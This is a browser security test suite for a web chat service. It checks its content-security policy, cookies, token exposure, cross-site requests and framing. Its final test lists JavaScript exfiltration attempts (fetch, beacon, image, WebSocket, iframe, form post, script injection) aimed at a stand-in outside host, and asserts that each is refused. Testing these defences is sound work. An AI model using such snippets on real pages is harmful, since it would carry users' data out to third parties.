"""The walls around the page: headers of every kind of answer, cookies, tokens, and what a script that got in could not do."""

import json

import aiohttp
import pytest
from playwright.async_api import expect

from chatelet.kernel.static import PAGE
from tests.browser.conftest import OpenScreen, Person
from tests.browser.elsewhere import TRIED_HOST, Elsewhere
from tests.browser.screen import Screen
from tests.journeys.service import PASSWORD, Service
from tests.journeys.visitor import COOKIE

pytestmark = pytest.mark.browser
POLICY = {
    "default-src": "'none'",
    "script-src": "'self'",
    "style-src": "'self'",
    "img-src": "'self' data: blob:",
    "connect-src": "'self'",
    "base-uri": "'none'",
    "frame-ancestors": "'none'",
    "require-trusted-types-for": "'script'",
}


def assert_walled(headers: "aiohttp.typedefs.CIMultiDictProxy[str]", *, page: bool) -> None:
    policy = dict(part.strip().partition(" ")[::2] for part in headers["Content-Security-Policy"].split(";"))
    assert policy["default-src"] == "'none'"
    assert "unsafe" not in str(policy)
    assert "*" not in str(policy)
    if page:
        assert {name: policy.get(name) for name in POLICY} == POLICY
        assert policy["trusted-types"]
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "no-referrer"
    assert headers["Cross-Origin-Opener-Policy"] == "same-origin"
    assert headers["X-Request-Id"]


@pytest.fixture
async def conversation(ada: Person) -> str:
    return await ada.conversation("Entêtes", "Bonjour [[say=Bonjour]]")


async def test_every_kind_of_answer_has_the_policy(
    ada: Person, conversation: str, service: Service, http: aiohttp.ClientSession
) -> None:
    script = next(path.name for path in (PAGE / "assets").glob("start-*.js"))
    font = next(path.name for path in (PAGE / "assets").glob("*.woff2"))
    expected = {
        "/": 200,
        f"/c/{conversation}": 200,
        "/nulle-part": 200,
        "/mark.svg": 200,
        f"/assets/{script}": 200,
        f"/assets/{font}": 200,
        "/assets/absent.js": 404,
        "/api/installation": 200,
        "/api/conversations": 200,
        f"/api/conversations/{conversation}": 200,
        f"/api/conversations/{conversation}/export?format=markdown": 200,
        "/api/conversations/export": 200,
        "/api/conversations/pas-un-identifiant": 422,
        "/api/nulle-part": 404,
        "/api/admin/persons": 403,
        "/api/health/live": 200,
        "/api/health/ready": 200,
        "/api/openapi.json": 200,
        "/metrics": 200,
    }
    for path, status in expected.items():
        async with http.get(service.address + path, headers=ada.visitor.headers) as response:
            assert response.status == status, path
            assert_walled(response.headers, page="export" not in path)
    for method, path, body, status in (
        ("POST", "/api/sessions", {"email": ada.email, "password": "faux"}, 401),
        ("POST", "/api/conversations", {"inconnu": 1}, 422),
        ("DELETE", "/", None, 404),
    ):
        answer = await ada.visitor.call(method, path, body)
        assert answer.status == status, (method, path)
        assert_walled(answer.headers, page=True)
    async with ada.visitor.asking(conversation, "Encore [[say=Encore]]") as stream:
        assert_walled(stream.response.headers, page=True)
        assert stream.response.content_type == "text/event-stream"
        await stream.read()
        turn = stream.opened["turn_id"]
    async with ada.visitor.following(conversation, turn) as again:
        assert_walled(again.response.headers, page=True)


async def test_answers_of_the_api_are_never_kept(ada: Person, conversation: str) -> None:
    for path in ("/api/sessions/current", f"/api/conversations/{conversation}", "/api/conversations/export"):
        answer = await ada.visitor.call("GET", path)
        assert "no-store" in answer.headers["Cache-Control"], path


async def test_the_cookie(ada: Person) -> None:
    answer = await ada.visitor.call("POST", "/api/sessions", {"email": ada.email, "password": PASSWORD})
    (cookie,) = [line for line in answer.headers.getall("Set-Cookie") if line.startswith(COOKIE)]
    attributes = {part.strip().lower().partition("=")[0] for part in cookie.split(";")[1:]}
    assert {"secure", "httponly", "samesite", "path"} <= attributes
    assert "domain" not in attributes
    assert "samesite=lax" in cookie.lower()
    assert "path=/" in cookie.lower()
    gone = await ada.visitor.call("DELETE", "/api/sessions/current")
    assert '"storage"' in gone.headers["Clear-Site-Data"]


async def test_no_token_within_reach_of_a_script_nor_in_an_address(open_screen: OpenScreen, ada: Person) -> None:
    screen = await open_screen()
    await screen.field("Adresse électronique").fill(ada.email)
    await screen.field("Mot de passe").fill(PASSWORD)
    await screen.button("Se connecter").click()
    await screen.ask("Bonjour [[say=Bonjour]]")
    await screen.read()
    (cookie,) = [one for one in await screen.page.context.cookies() if one["name"] == COOKIE]
    assert cookie["httpOnly"]
    token = cookie["value"]
    within_reach = await screen.page.evaluate(
        """async () => JSON.stringify([
          document.cookie, {...localStorage}, {...sessionStorage}, await indexedDB.databases(), location.href,
          document.documentElement.outerHTML, performance.getEntriesByType("resource").map(({ name }) => name),
        ])"""
    )
    assert token not in within_reach
    assert json.loads(within_reach)[0] == ""
    assert not any(token in url for url in screen.witness.requests)


async def test_another_site_can_neither_write_nor_frame(
    ada: Person, service: Service, open_screen: OpenScreen, tried: Elsewhere
) -> None:
    for headers in ({"Origin": f"http://www.{TRIED_HOST}"}, {"Sec-Fetch-Site": "cross-site"}, {"Origin": "null"}):
        answer = await ada.visitor.call("POST", "/api/conversations", {}, headers={**ada.visitor.headers, **headers})
        assert (answer.status, answer.body["code"]) == (403, "cross_site_request")
    screen = await open_screen(ada)
    await screen.page.goto(f"http://www.{TRIED_HOST}/")
    framed = await screen.page.evaluate(
        """address => new Promise(resolve => {
          const frame = document.createElement("iframe");
          frame.onload = () => { try { resolve(frame.contentDocument?.title ?? "closed"); } catch { resolve("closed"); } };
          frame.src = address;
          document.body.append(frame);
        })""",
        service.address,
    )
    assert framed == "closed"
    assert "Châtelet" not in " ".join([await frame.content() for frame in screen.page.frames])
    screen.witness.forget()


_ATTEMPTS = {
    "fetch": "fetch(far)",
    "beacon": "Promise.resolve(navigator.sendBeacon(far, 'mots') && new Promise((_, no) => setTimeout(no, 300)))",
    "image": "new Promise((yes, no) => Object.assign(new Image(), { onload: yes, onerror: no, src: far }))",
    "socket": "new Promise((yes, no) => Object.assign(new WebSocket(far.replace('http', 'ws')), { onopen: yes, onerror: no }))",
    "events": "new Promise((yes, no) => Object.assign(new EventSource(far), { onopen: yes, onerror: no }))",
    "frame": """new Promise((yes, no) => {
      const frame = document.createElement("iframe");
      document.addEventListener("securitypolicyviolation", no, { once: true });
      frame.src = far; document.body.append(frame); })""",
    "html": "Promise.resolve().then(() => { document.body.innerHTML += '<b>mots</b>'; })",
    "script": "Promise.resolve().then(() => { document.createElement('script').src = far; })",
    "inline": "Promise.resolve().then(() => { document.createElement('script').text = 'window.__pwned = 1'; })",
    "policy": "Promise.resolve().then(() => trustedTypes.createPolicy('autre', { createHTML: text => text }))",
    "worker": "Promise.resolve().then(() => new Worker(far))",
    "style": """new Promise((yes, no) => {
      const sheet = document.createElement("link");
      Object.assign(sheet, { rel: "stylesheet", href: far, onload: yes, onerror: no });
      document.head.append(sheet); })""",
    "form": """new Promise((yes, no) => {
      const form = document.createElement("form");
      document.addEventListener("securitypolicyviolation", no, { once: true });
      form.action = far; form.method = "post"; document.body.append(form); form.submit(); })""",
}


async def test_even_a_script_could_not_carry_words_out(screen: Screen, tried: Elsewhere) -> None:
    """If all the rest failed, the browser would still hold these doors."""
    await expect(screen.picker("Modèle")).to_be_visible()
    far = f"http://www.{TRIED_HOST}/mots"
    for name, attempt in _ATTEMPTS.items():
        outcome = await screen.page.evaluate(f"far => {attempt}.then(() => 'done', () => 'refused')", far)
        assert outcome == "refused", name
    assert not [visit for visit in tried.visits if "/mots" in visit]
    assert await screen.page.evaluate("() => window.__pwned") is None
    screen.witness.forget()
